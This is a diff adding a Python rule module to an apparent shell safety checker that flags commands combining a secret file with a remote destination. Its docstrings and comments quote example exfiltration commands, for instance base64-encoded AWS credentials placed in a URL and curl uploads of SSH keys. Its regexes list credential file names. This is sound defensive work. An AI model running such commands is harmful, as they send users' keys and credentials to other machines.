@@ -1,0 +1,221 @@
+"""Effect: a secret and another machine on one command, whatever the program.
+
+``exfil`` reads the senders it names and ``unknown_senders`` the verbs and body options it knows; users hand
+secrets to many more clients (load testers' probes, packet crafters, grid copiers, probes that put data in a
+URL or a name).  The class is read from the command's effect: one simple command that both
+
+- holds a secret as its data: a key or credential file named as an operand (not as an option's value: ``-i KEY``,
+  ``--key KEY``, ``-o IdentityFile=KEY`` log the client in), read in a substitution (``"…?k=$(base64 -w0
+  ~/.aws/credentials)"``, here-strings too), or named in code given to the program (a quoted argument, a
+  here-string, a process substitution: ``send(IP(dst=…)/Raw(open('/root/.ssh/id_rsa').read()))``,
+  ``sh -c 'cat ~/.ssh/id_rsa >&7'``);
+- and names a destination on another machine: a URL with a network scheme, ``user@host:path``, ``host:port``, an
+  IP address, an e-mail address or a dotted host name (a file's extension is not a domain).
+
+Senders ``exfil`` names keep their own reading (``ssh host cat ~/.ssh/id_rsa`` fetches a key, it sends none);
+for them only substitutions and code count.  Loopback destinations stay quiet, as do public keys.
+"""
+from __future__ import annotations
+
+import re
+from typing import Optional
+
+from aish.safety.lazy_regex import LazyRegex
+from aish.safety.rules.code_reach import KEY_FILE_IN_CODE
+from aish.safety.rules.code_secret_paths import secret_in_code
+from aish.safety.rules.common import Ctx, fragment
+from aish.safety.rules.exfil import (_SENDERS, _in_substitutions, _segment_reads_secret, _worse, payload_words,
+                                     secret_path, sent)
+from aish.safety.rules.unknown_senders import _DNS_NAME, _level, _secret, _what
+from aish.safety.shell_words import Word, segments
+
+# A cheap look first: something that can name another machine.
+_MAY_NAME_HOST = LazyRegex(r"://|@|\d\.\d+\.\d|[a-z0-9-]\.[a-z0-9-]+\.[a-z]{2,}|:\d{2,5}\b", re.IGNORECASE)
+# ... and something that can be a secret: a key's or a credential file's name, a substitution, code.
+_MAY_HOLD_SECRET = LazyRegex(r"\.ssh|\.aws|cred|netrc|pgpass|kube|id_|npmrc|pypirc|docker|gnupg|token|secret|key|"
+                             r"shadow|wallet|cookie|passw|\.env|histor|environ|\.pem|\.p12|\.pfx|kdbx|vault|"
+                             r"login|\$\(|`|<\(", re.IGNORECASE)
+_URL = LazyRegex(r"(?<![\w+.-])(?!file:)[a-z][a-z0-9+.-]{1,15}://\[?([^/\s:'\"\]]+)", re.IGNORECASE)
+_LEADING_URL = re.compile(r"^(?:[\w.-]+=)?(?:https?|wss?|ftps?)://", re.IGNORECASE)
+_SCP_LIKE = LazyRegex(r"^[\w.-]+@([\w-]+(?:\.[\w-]+)*):")
+_HOST_PORT = LazyRegex(r"(?:^|[=@\s\"'(,])((?:[a-z0-9-]+\.)+[a-z0-9-]+|\d{1,3}(?:\.\d{1,3}){3}):\d{2,5}\b",
+                       re.IGNORECASE)
+_ADDRESS = LazyRegex(r"(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?![\w.])")
+_EMAIL = LazyRegex(r"(?<![\w.+-])[\w.+-]+@((?:[a-z0-9-]+\.)+[a-z]{2,24})\b", re.IGNORECASE)
+_DOTTED = LazyRegex(r"^(?:[a-z0-9-]+\.)+([a-z]{2,24})\.?$", re.IGNORECASE)
+# Last labels that are files' extensions, not top-level domains.
+_EXTENSIONS = frozenset("""json yaml yml toml ini conf cfg config txt md rst log csv tsv xml html htm js mjs cjs ts
+py rb pl pm php sh bash zsh fish ps psm go rs java kt c h cc cpp hpp cs lua tcl r sql db sqlite pem key crt cer der
+pub gpg asc sig gz tgz xz bz zst zip tar rar lz img iso bin dat out png jpg jpeg gif svg pdf doc docx odt env lock
+bak old orig tmp swp so dll exe jar war whl egg gem deb rpm apk dmg msi tf tfvars tfstate hcl ovpn kdbx jks p12
+pfx keystore service timer socket mount target desktop plist""".split())
+_LOOPBACK = re.compile(r"^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|::1|\[::1\]|host\.docker\.internal)$",
+                       re.IGNORECASE)
+# Option values that log the client in or configure it, not data it sends (`-o IdentityFile=KEY` is one word).
+_LOGIN_WORDS = re.compile(r"identity|private.?key|key.?file|keyfile|cert|tls|ssl|cacert|auth|password|login|"
+                          r"credential|kubeconfig|config|secret", re.IGNORECASE)
+# Code that uses a key to log in (`key_filename=`, `IdentityFile`, `ssh -i KEY`), not to send it.
+_LOGIN_IN_CODE = re.compile(r"identity|private.?key|key.?file|keyfile|cert|tls|ssl|\s-i\s", re.IGNORECASE)
+_CODE_LIMIT = 4000
+
+
+def may_carry(c: Ctx) -> bool:
+    """Cheap: the line has arguments and something that can name another machine."""
+    if not c.args and not c.seg.redirects:
+        return False
+    texts = [c.lowered] + [r.target.raw if r.target is not None else r.body for r in c.seg.redirects]
+    return any(_MAY_NAME_HOST.search(t) for t in texts) and any(_MAY_HOLD_SECRET.search(t) for t in texts)
+
+
+def may_send_later(text: str) -> bool:
+    """Cheap, on the whole line: another machine's name and something that can be a secret."""
+    return _MAY_NAME_HOST.search(text) is not None and _MAY_HOLD_SECRET.search(text) is not None
+
+
+def _hosts(text: str) -> list:
+    """The machines ``text`` names (a URL's host, user@host:, host:port, an address, a mail domain)."""
+    found = [m.group(1) for m in _URL.finditer(text)]
+    found += [m.group(1) for m in _HOST_PORT.finditer(text)]
+    found += [m.group(1) for m in _ADDRESS.finditer(text)]
+    found += [m.group(1) for m in _EMAIL.finditer(text)]
+    m = _SCP_LIKE.match(text)
+    if m:
+        found.append(m.group(1))
+    return [h for h in found if not _LOOPBACK.match(h) and
+            (not h.replace(".", "").isdigit() or _plausible_address(h))]
+
+
+def _plausible_address(text: str) -> bool:
+    parts = [int(p) for p in text.split(".")]
+    return len(parts) == 4 and all(p < 256 for p in parts) and parts[0] not in (0, 127, 255)
+
+
+def _names_host(word: Word, dotted: bool = True) -> bool:
+    """Does the word name another machine (a bare dotted name only when ``dotted``)?"""
+    text = word.text
+    value = text.split("=", 1)[1] if "=" in text and not text.startswith("=") else text
+    if _hosts(text):
+        return True
+    if not dotted:
+        return False
+    m = _DOTTED.match(value)
+    return bool(m and m.group(1).lower() not in _EXTENSIONS and not value.startswith(".") and "/" not in value)
+
+
+def _code_secret(text: str) -> str:
+    """A key or credential file named in code or in a shell command given as one argument."""
+    if KEY_FILE_IN_CODE.search(text) is None and secret_in_code(text, secret_path) == "":
+        return ""
+    found = secret_in_code(text, secret_path)
+    if found:
+        return found
+    for seg in segments(text)[:6]:  # `sh -c 'cat ~/.ssh/id_rsa >&7'`: what the command prints
+        found = _worse(found, _segment_reads_secret(seg))
+    if not found and _LOGIN_IN_CODE.search(text) is None:  # `[read [open ~/.pgpass]]`, `HOME..'/.aws/credentials'`
+        found = "high"
+    return found
+
+
+def _fed_code(c: Ctx) -> list:
+    """Code given to the program as text: its quoted arguments with spaces, here-strings, substitutions' echoes."""
+    out = [w.text[:_CODE_LIMIT] for w in c.args[:32] if w.quoted and " " in w.text]
+    for r in c.seg.redirects:
+        if r.op == "<<<" and r.target is not None:
+            out.append(r.target.text[:_CODE_LIMIT])
+        elif r.body:
+            out.append(r.body[:_CODE_LIMIT])
+    for w in c.args[:32]:
+        if w.raw.startswith("<(") and w.subs and w.subs[0].lstrip().startswith(("echo ", "printf ")):
+            out.append(w.subs[0][:_CODE_LIMIT])
+    return out
+
+
+def _operand_secret(c: Ctx) -> str:
+    """A secret file named as an operand (not an option's value, not a public key)."""
+    found = ""
+    args = c.args[:32]
+    for k, w in enumerate(args):
+        text = w.text
+        if text.startswith("-") or k and args[k - 1].text.startswith("-") and "=" not in args[k - 1].text:
+            continue
+        if "=" in text and _LOGIN_WORDS.search(text.split("=", 1)[0]) or \
+                "://" in text and not text.startswith("file://"):  # `op://vault/item`: a reference, not a file
+            continue
+        name = re.sub(r"^file://", "", text).lstrip("@")
+        found = _worse(found, _secret(Word(name, name, has_var="$" in name)))
+    for r in c.seg.redirects:
+        if r.op == "<" and r.target is not None and not any("stdin" in t for t in c.texts):
+            found = _worse(found, secret_path(r.target))
+    return found
+
+
+def rule_secret_to_destination(c: Ctx) -> Optional[tuple]:
+    """A secret and another machine's name on one command: see the module's docstring."""
+    words = payload_words(c.args[:32])  # not a login option's value, unless it is a URL (`-u "https://…$(…)"`)
+    words += [w for w in c.args[:32] if _LEADING_URL.match(w.text) and w not in words]
+    code = _fed_code(c)
+    here = [r.target for r in c.seg.redirects if r.op == "<<<" and r.target is not None]
+    if not any(_names_host(w) for w in words) and not any(_hosts(t) for t in code) and \
+            not any(w.subs and _DNS_NAME.search(w.raw) for w in here):  # `zdns A <<< "$(base32 KEY).x.example"`
+        return None
+    found = _in_substitutions(words + here)
+    if c.prog.lower() not in _SENDERS and (any(_names_host(w, dotted=False) for w in words) or code):
+        found = _worse(found, _operand_secret(c))  # a file's operand and a bare dotted name: a subject, an output
+    for text in code[:4]:
+        if found == "high":
+            break
+        found = _worse(found, _code_secret(text))
+    return sent(found, c, c.prog) if found else None
+
+
+_OUTPUT_OPTIONS = frozenset({"-o", "--output", "--out", "--save-to", "--output-file", "--outfile", "-O", "-w",
+                             "--write", "--dest", "--destination"})
+_COMMAND_OPTIONS = frozenset({"-c", "--command", "-e", "--exec", "-x", "--shell", "--cmd"})
+
+
+def _made_from_secret(words: list) -> tuple:
+    """(the secret class a step reads or runs a printer of, the paths it may write)."""
+    texts = [w.text for w in words[1:32]]
+    found, outputs = "", []
+    for j, t in enumerate(texts):
+        nxt = texts[j + 1] if j + 1 < len(texts) else ""
+        if t in _COMMAND_OPTIONS and nxt:  # `termtosvg -c 'cat ~/.aws/credentials' out.svg`
+            for seg in segments(nxt)[:4]:
+                found = _worse(found, _segment_reads_secret(seg))
+        elif t in _OUTPUT_OPTIONS and nxt:
+            outputs.append(nxt)
+        elif "=" in t and t.split("=", 1)[0] in _OUTPUT_OPTIONS:
+            outputs.append(t.split("=", 1)[1])
+        elif not t.startswith("-") and (j == 0 or texts[j - 1] not in _COMMAND_OPTIONS):
+            got = _secret(Word(t, t, has_var="$" in t))
+            found = _worse(found, got)
+            if not got and ("/" in t or "." in t):
+                outputs.append(t)
+    return found, [o.rstrip("/") for o in outputs if len(o.rstrip("/")) > 1]
+
+
+def rule_secret_file_sent(segs: list) -> Optional[tuple]:
+    """A secret made into a file (an image, a recording, a capture) that a later step sends to another machine
+    (``carbon-now ~/.ssh/id_rsa --save-to /tmp && curl -F file=@/tmp/id_rsa.png https://…``), or copied into a
+    directory an earlier step mounted from another machine (``curlftpfs ftp.example.net /mnt/f && cp KEY /mnt/f``)."""
+    if len(segs) < 2:
+        return None
+    for k, seg in enumerate(segs[:4]):
+        found, outputs = _made_from_secret(seg.words) if len(seg.words) > 1 else ("", [])
+        if found and outputs:
+            for later in segs[k + 1:k + 4]:
+                texts = [w.text for w in later.words[1:32]]
+                if any(_names_host(w) for w in later.words[1:32]) and \
+                        any(o in t for o in outputs for t in texts):
+                    return _level(found), f"makes {_what(found)} into a file a later step sends to another machine " \
+                                          f"({fragment([w.raw for w in seg.words])})"
+        if not any(_names_host(w) for w in seg.words[1:32]):
+            continue
+        mounts = [w.text.rstrip("/") for w in seg.words[2:32] if w.text.startswith(("/", "~/", "./")) and
+                  len(w.text.rstrip("/")) > 1]
+        for later in segs[k + 1:k + 4]:
+            got, _ = _made_from_secret(later.words) if len(later.words) > 1 else ("", [])
+            if got and mounts and any(w.text.startswith(m) for m in mounts for w in later.words[2:32]):
+                return _level(got), f"copies {_what(got)} into a directory mounted from another machine " \
+                                    f"({fragment([w.raw for w in later.words])})"
+    return None
